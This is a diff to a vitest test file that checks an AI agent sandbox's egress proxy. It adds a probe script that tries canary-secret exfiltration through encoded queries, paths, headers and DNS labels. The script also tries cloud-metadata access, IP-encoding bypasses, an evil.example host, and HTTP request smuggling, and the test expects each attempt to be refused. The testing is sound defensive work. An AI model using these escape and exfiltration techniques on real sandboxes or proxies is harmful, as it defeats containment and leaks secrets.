@@ -6,8 +6,9 @@ import { mkdir, readFile, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { promisify } from 'node:util';
 import { success, unwrap, type EgressFact, type EgressRule } from '@agentcompany/protocol';
-import { describe, expect, it, onTestFinished } from 'vitest';
+import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
 import { findCaches } from '../orchestrator/src/containers/package-caches.ts';
+import { runtimesUnderTest, type OpenRuntime } from '../orchestrator/src/containers/testing/runtimes.ts';
 import { testLimits, WorkerFixture, type Finished } from '../orchestrator/src/containers/testing/worker-fixture.ts';
 import type { WorkerRunnerOptions } from '../orchestrator/src/containers/sealed-worker-runner.ts';
 import { noServices } from '../orchestrator/src/door/attempt-services.ts';
@@ -41,8 +42,9 @@ async function workerWithWayOut(
   files: Readonly<Record<string, string>>,
   { network }: Pick<Origin, 'network'>,
   allow: readonly EgressRule[],
+  runtime?: OpenRuntime,
 ): Promise<Opened> {
-  const fixture = await WorkerFixture.open(files);
+  const fixture = await WorkerFixture.open(files, runtime);
   onTestFinished(() => fixture.close());
   const facts: EgressFact[] = [];
   const egress = await openEgress({
@@ -74,6 +76,47 @@ function outputOf({ result, log }: Finished): string {
   expect(report.error, log).toBeNull();
   return report.agent?.output ?? '';
 }
+
+/** Tries, from inside, to get out what it knows, to others than the allowed host, or in requests that say two things. */
+const attacks = `
+  import { readFileSync } from 'node:fs';
+  import { get, request } from 'node:http';
+  import { connect } from 'node:net';
+  import { connect as secure } from 'node:tls';
+  const said = async (url, options) => { try { const got = await fetch(url, options); return got.status + ' ' + (await got.text()).slice(0, 80); } catch (error) { return 'failed: ' + (error.cause?.message ?? error.message); } };
+  const tunnel = (path) => new Promise((resolve) => request(process.env.http_proxy, { method: 'CONNECT', path }).on('connect', (answer, socket) => resolve([answer.statusCode, socket])).on('error', (error) => resolve([error.code])).end());
+  const asked = async (path) => { const [answer, socket] = await tunnel(path); socket?.destroy(); return answer; };
+  const raw = async (text) => { const [, socket] = await tunnel('${host}:443'); return new Promise((resolve) => { const over = secure({ socket, servername: '${host}' }).on('data', (data) => { resolve(String(data).split('\\r\\n')[0]); over.destroy(); }).on('error', (error) => resolve(error.code)).on('close', () => resolve('closed')); over.write(text); }); };
+  const tables = ['tcp', 'tcp6', 'udp', 'udp6'].flatMap((name) => readFileSync('/proc/net/' + name, 'utf8').trim().split('\\n').slice(1));
+  const listening = tables.map((line) => line.trim().split(/\\s+/)).filter(([,, , state]) => state === '0A' || state === '07');
+  const at = 'https://${host}/x';
+  const all = {
+    DIRECT: () => new Promise((resolve) => connect({ host: '93.184.215.14', port: 443 }).on('error', (error) => resolve(error.code)).on('connect', () => resolve('connected'))),
+    ALLOWED: () => said(at),
+    POST: () => said(at, { method: 'POST', body: 'x' }),
+    QUERY: () => said(at + '?${canary}'),
+    PATH: () => said(at + '/${canary}/y'),
+    REVERSED: () => said(at + '?' + [...'${canary}'].reverse().join('')),
+    BASE64: () => said(at + '?' + btoa('${canary}')),
+    AGENT: () => said(at, { headers: { 'user-agent': '${canary}' } }),
+    LABEL: () => said('https://${canary}.${host}/'),
+    OTHER: () => said('https://other.example.org/'),
+    METADATA: () => said('https://169.254.169.254/'),
+    REDIRECT: () => said('https://${host}/away'),
+    PLAIN: () => new Promise((resolve) => get(process.env.http_proxy, { path: 'http://${host}/', headers: { host: '${host}' } }, async (answer) => resolve(answer.statusCode + ' ' + (await answer.toArray()).join('')))),
+    SSH: () => asked('${host}:22'),
+    NUMBER: () => asked('2130706433:443'),
+    HEXADECIMAL: () => asked('0x7f.1:443'),
+    SHORT: () => asked('127.1:443'),
+    MAPPED: () => asked('[::ffff:127.0.0.1]:443'),
+    SUFFIX: () => asked('${host}.evil.example:443'),
+    HOST: () => raw('GET /other HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'),
+    ABSOLUTE: () => raw('GET https://evil.example/other HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n'),
+    LENGTHS: () => raw('GET /other HTTP/1.1\\r\\nHost: ${host}\\r\\nContent-Length: 1\\r\\nContent-Length: 2\\r\\n\\r\\nxx'),
+    SMUGGLED: () => raw('GET /other HTTP/1.1\\r\\nHost: ${host}\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n'),
+  };
+  console.log('LISTENING', JSON.stringify(listening.map(([, local]) => local.split(':')[0])));
+  for (const [name, attack] of Object.entries(all)) console.log(name, await attack());`;
 
 describe('a worker with a way out', () => {
   it('S44 installs with npm ci from an allowed registry, each request on record', async () => {
@@ -133,44 +176,50 @@ describe('a worker with a way out', () => {
     );
   });
 
-  it('C9 S5 listens on the loopback interface alone, and has no other way than that', async () => {
-    const origin = await startOrigin({ hosts: [host], handle: (_, response) => response.end('the answer') });
-    const script = `
-      import { readFileSync } from 'node:fs';
-      import { get } from 'node:http';
-      import { connect } from 'node:net';
-      const said = async (url, options) => { try { const got = await fetch(url, options); return got.status + ' ' + (await got.text()).slice(0, 80); } catch (error) { return 'failed: ' + (error.cause?.message ?? error.message); } };
-      const tables = ['tcp', 'tcp6', 'udp', 'udp6'].flatMap((name) => readFileSync('/proc/net/' + name, 'utf8').trim().split('\\n').slice(1));
-      const listening = tables.map((line) => line.trim().split(/\\s+/)).filter(([,, , state]) => state === '0A' || state === '07');
-      console.log('LISTENING', JSON.stringify(listening.map(([, local]) => local.split(':')[0])));
-      console.log('DIRECT', await new Promise((resolve) => connect({ host: '93.184.215.14', port: 443 }).on('error', (error) => resolve(error.code)).on('connect', () => resolve('connected'))));
-      console.log('ALLOWED', await said('https://${host}/x'));
-      console.log('POST', await said('https://${host}/x', { method: 'POST', body: 'x' }));
-      console.log('CANARY', await said('https://${host}/x?${canary}'));
-      console.log('OTHER', await said('https://other.example.org/'));
-      console.log('METADATA', await said('https://169.254.169.254/'));
-      console.log('PLAIN', await new Promise((resolve) => get(process.env.http_proxy, { path: 'http://${host}/', headers: { host: '${host}' } }, async (answer) => resolve(answer.statusCode + ' ' + (await answer.toArray()).join('')))));`;
-    const { work, facts } = await workerWithWayOut({ 'probe.mjs': script }, origin, [rule(host)]);
+  it('S5 C9 has no proxy, no variable and no listener where the order has no way out', async () => {
+    const fixture = await WorkerFixture.open();
+    onTestFinished(() => fixture.close());
+    const said = await fixture.probe('env | grep -i -c proxy; tail -n +2 /proc/net/tcp | wc -l; ls -d /caches 2>&1');
+    expect(said).toMatch(/^0\n0\n.*No such file/s);
+  });
+});
+
+describe.each(runtimesUnderTest)('on $name, a worker with a way out', ({ open }) => {
+  let runtime: OpenRuntime;
+  beforeAll(async () => {
+    runtime = await open();
+  });
+  afterAll(() => runtime.close());
+
+  it('C9 S5 S44 S45 listens on the loopback interface alone, and gets nothing out but sound requests to allowed hosts', async () => {
+    const handle = ({ url }: IncomingMessage, response: ServerResponse): void => {
+      if (url === '/away') response.writeHead(302, { location: 'https://169.254.169.254/latest' }).end();
+      else response.end('the answer');
+    };
+    const origin = await startOrigin({ hosts: [host], handle });
+    const { work, facts } = await workerWithWayOut({ 'probe.mjs': attacks }, origin, [rule(host)], runtime);
     const said = outputOf(await work('node probe.mjs'));
     const lineOf = (name: string): string => new RegExp(`^${name} (.*)$`, 'm').exec(said)?.[1] ?? said;
     expect(lineOf('LISTENING')).toBe('["0100007F"]');
     expect(lineOf('DIRECT')).toBe('ENETUNREACH');
     expect(lineOf('ALLOWED')).toBe('200 the answer');
     expect(lineOf('POST')).toMatch(/^405 agentcompany: this method/);
-    expect(lineOf('CANARY')).toMatch(/^403 agentcompany: the request holds a secret/);
-    expect(lineOf('OTHER')).toMatch(/^failed: /);
-    expect(lineOf('METADATA')).toMatch(/^failed: /);
+    for (const name of ['QUERY', 'PATH', 'AGENT', 'REVERSED', 'BASE64'])
+      expect(lineOf(name), name).toMatch(/^403 agentcompany: the request holds a secret/);
+    for (const name of ['LABEL', 'OTHER', 'METADATA', 'REDIRECT']) expect(lineOf(name), name).toMatch(/^failed: /);
     expect(lineOf('PLAIN')).toMatch(/^403 agentcompany: only https/);
+    for (const name of ['SSH', 'NUMBER', 'HEXADECIMAL', 'SHORT', 'MAPPED', 'SUFFIX'])
+      expect(lineOf(name), name).toMatch(/^(?:40[03]|ECONNRESET)$/);
+    for (const name of ['HOST', 'ABSOLUTE', 'LENGTHS', 'SMUGGLED'])
+      expect(lineOf(name), name).toMatch(/^HTTP\/1.1 4\d\d /);
+    expect(new Set(origin.asked.map(({ method, url }) => `${method} ${url}`))).toEqual(
+      new Set(['GET /x', 'GET /away']),
+    );
     const reasons = facts.filter(({ event }) => event === 'refused').map(({ reason }) => reason);
     // Node's fetch asks a proxy that refuses many times.
-    expect(new Set(reasons)).toEqual(new Set(['host', 'method', 'name', 'port', 'secret']));
-  });
-
-  it('S5 C9 has no proxy, no variable and no listener where the order has no way out', async () => {
-    const fixture = await WorkerFixture.open();
-    onTestFinished(() => fixture.close());
-    const said = await fixture.probe('env | grep -i -c proxy; tail -n +2 /proc/net/tcp | wc -l; ls -d /caches 2>&1');
-    expect(said).toMatch(/^0\n0\n.*No such file/s);
+    expect(new Set(reasons)).toEqual(
+      new Set(['host', 'host_header', 'malformed', 'method', 'name', 'port', 'secret', 'target']),
+    );
   });
 });
 
